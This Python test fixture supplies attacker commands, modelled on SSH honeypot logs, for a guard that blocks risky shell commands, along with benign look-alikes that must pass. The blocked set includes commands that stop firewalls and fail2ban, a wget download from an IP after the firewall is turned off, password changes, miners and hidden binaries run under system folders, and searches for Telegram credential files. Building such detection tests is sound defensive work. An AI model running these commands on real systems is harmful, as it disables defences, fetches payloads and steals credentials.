"""Classes of technique that attackers typed into SSH honeypots and got past the guards (helper honey20).

First sight was measured on commands captured by public Cowrie honeypots, one row per distinct command
(deroux/longitudinal-analysis-cowrie's 2021 DigitalOcean sensors, kareiva/cowrie-logs' 2018 logs,
hoanb1's, jasonmpittman's and Bilal05Tariq's logs as the tuning part; scriptzteam's 2017 REALTiME
logs and samdavi/SSH-Honeypot-Dataset's 2025 T-Pot counts held out), kept outside the repository
(/work/realworld/honey20 on the machine that measured them). What the tuning part missed is fixed by
class; the commands here are variants written for the tests:

- a firewall's own control program or init script told to stop (``SuSEfirewall2 stop``, SUSE's
  ``rcSuSEfirewall2`` link, a misspelt copy an attacker's loop types, ``fail2ban-client stop``): the
  defense turned off, blocked like ``service iptables stop``; a project's own ``./firewall.sh stop``
  is not the machine's firewall;
- a vendor's ``NAME-passwd`` command (``hive-passwd``, the mining OS's password for the rig's accounts)
  and NIS's ``yppasswd``: an account change, asked like ``passwd``; generators (``mkpasswd``,
  ``makepasswd``) and a service's password file (``mosquitto_passwd FILE USER``) are not;
- the public account list found by its exact name (``find / -name passwd``, ``locate passwd``) is
  discovery, not credential hunting (``shadow``, ``master.passwd``, ``.htpasswd``, a glob
  ``*passwd*`` still are);
- own variants of the brief's classes that main missed: a process whose name starts like a busy kernel
  thread's (``kworkerds``, a miner's) killed (process hunt, asked) or run; a program run from a hidden
  name among the system's programs or libraries (``/usr/bin/.sshd``, ``/lib/.x/kit``), asked like one
  run from a hidden name in ``/tmp``.

After the held-out part was measured (so not counted as transfer): a redirect into ``//NAME`` (a leading
double slash) was not normalised without a working directory and escaped the top-of-the-file-system rule;
Telegram Desktop's session folder (``tdata/D877F783D5D3EF8C``) and key file (``key_datas``) looked up by
name are credential hunting, as browsers' ``Login Data`` and ``key4.db`` are.
"""

from __future__ import annotations

HELD = {
    "firewall control told to stop": [
        "rcSuSEfirewall2 stop",
        "/sbin/SuSEfirewall2 stop; wget -q http://198.51.100.4/a",
        "sudo /etc/init.d/firewall stop",
        "fail2ban-client stop",
        "nohup reSuSEfirewall2 stop &",
    ],
    "password set by a *passwd program": [
        "hive-passwd Sup3rS3cret",
        "echo -e 'old\\nnew\\nnew' | yppasswd",
        "sudo rig-passwd 'n3w-p4ss'",
    ],
    "process named like a kernel thread": [
        "killall -9 kworkerds",
        "pkill -f kthreaddk",
        "cd /tmp && ./kworkerd0 -B",
    ],
    "hidden name among the system's programs": [
        "/usr/bin/.sshd -D",
        "cd /usr/sbin/.cache && ./x",
        "chmod +x /lib/.udev/kit; /lib/.udev/kit",
        "bash /usr/local/bin/.update.sh",
    ],
    "held-out leftovers, after looking": [
        "printf '#!/bin/sh\\nid\\n' > //cmd",
        "echo probe >> //.w",
        "locate key_datas",
        "find /home -path '*tdata/D877F783D5D3EF8C*' 2>/dev/null",
    ],
}

ALLOWED = [
    "find / -name passwd 2>/dev/null",
    "locate passwd | head",
    "find /etc -maxdepth 1 -name group",
    "mkpasswd -m sha-512 hunter2",
    "makepasswd --chars 16",
    "mosquitto_passwd -c config/passwords.txt device1",
    "SuSEfirewall2 status",
    "./scripts/firewall.sh stop",
    "/usr/lib/.build-id/3f/0a1b2c --version",
    "ls -la /usr/bin/.hidden-test",
    "ps -eo pid,comm | grep kworker",
    "passwd --status",
    "echo done >> //tmp/build.log",
]
